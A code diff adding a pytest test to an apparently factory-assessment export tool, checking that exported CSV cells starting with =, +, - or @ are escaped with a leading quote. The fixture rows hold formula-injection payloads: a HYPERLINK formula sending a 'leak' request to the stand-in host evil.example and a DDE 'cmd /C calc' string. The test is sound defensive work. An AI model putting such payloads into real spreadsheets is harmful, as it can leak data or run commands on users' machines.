@@ -77,3 +77,72 @@ def test_an_empty_store_exports_the_header_only(sqlite_store: Store) -> None:
     out = io.StringIO()
     assert export_assessments(sqlite_store, out) == 0
     assert out.getvalue() == EXPORT_HEADER + "\n"
+
+
+def test_texts_a_spreadsheet_would_run_are_exported_after_a_quote(
+    store: Store, tmp_path: Path
+) -> None:
+    hyperlink = '=HYPERLINK("http://evil.example/?leak","Open")'
+    rows = [
+        [
+            "Vietnam",
+            "1",
+            "VN001",
+            hyperlink,
+            "1001",
+            "15/03/2023",
+            "NCQ",
+            "+cmd|' /C calc'!A0",
+            "CMP.MW.01",
+            "-Minimum Wages",
+            "@SUM(1+1)",
+            "1",
+            "-",
+        ],
+        [
+            "Vietnam",
+            "1",
+            "VN001",
+            hyperlink,
+            "1001",
+            "15/03/2023",
+            "FGW",
+            "How many?",
+            "FGW.01",
+            "Employment Contracts",
+            "Contracts",
+            "-12.5",
+            "",
+        ],
+        [
+            "Vietnam",
+            "1",
+            "VN001",
+            hyperlink,
+            "1001",
+            "15/03/2023",
+            "FGW",
+            "Balance?",
+            "FGW.02",
+            "Employment Contracts",
+            "Contracts",
+            "-1+2",
+            "",
+        ],
+    ]
+    path = tmp_path / "assessments.csv"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh, lineterminator="\n").writerows([EXPORT_HEADER.split(","), *rows])
+    import_file(store, "assessments", path)
+    out = io.StringIO()
+    export_assessments(store, out)
+    header, exported = distinct_rows(out.getvalue())
+    by_question = {r[8]: dict(zip(header, r, strict=True)) for r in exported}
+    ncq = by_question["CMP.MW.01"]
+    assert ncq["Factory.Assessed.Name"] == "'" + hyperlink
+    assert ncq["Q.Label"] == "'+cmd|' /C calc'!A0"
+    assert (ncq["CP"], ncq["Cluster"], ncq["Tags"]) == ("'-Minimum Wages", "'@SUM(1+1)", "'-")
+    assert ncq["Finding"] == "1"
+    assert by_question["FGW.01"]["Finding"] == "-12.5"  # a number, not a formula
+    assert by_question["FGW.02"]["Finding"] == "'-1+2"
+    assert store.findings_frame().set_index("question_id").loc["CMP.MW.01", "tags"] == "-"
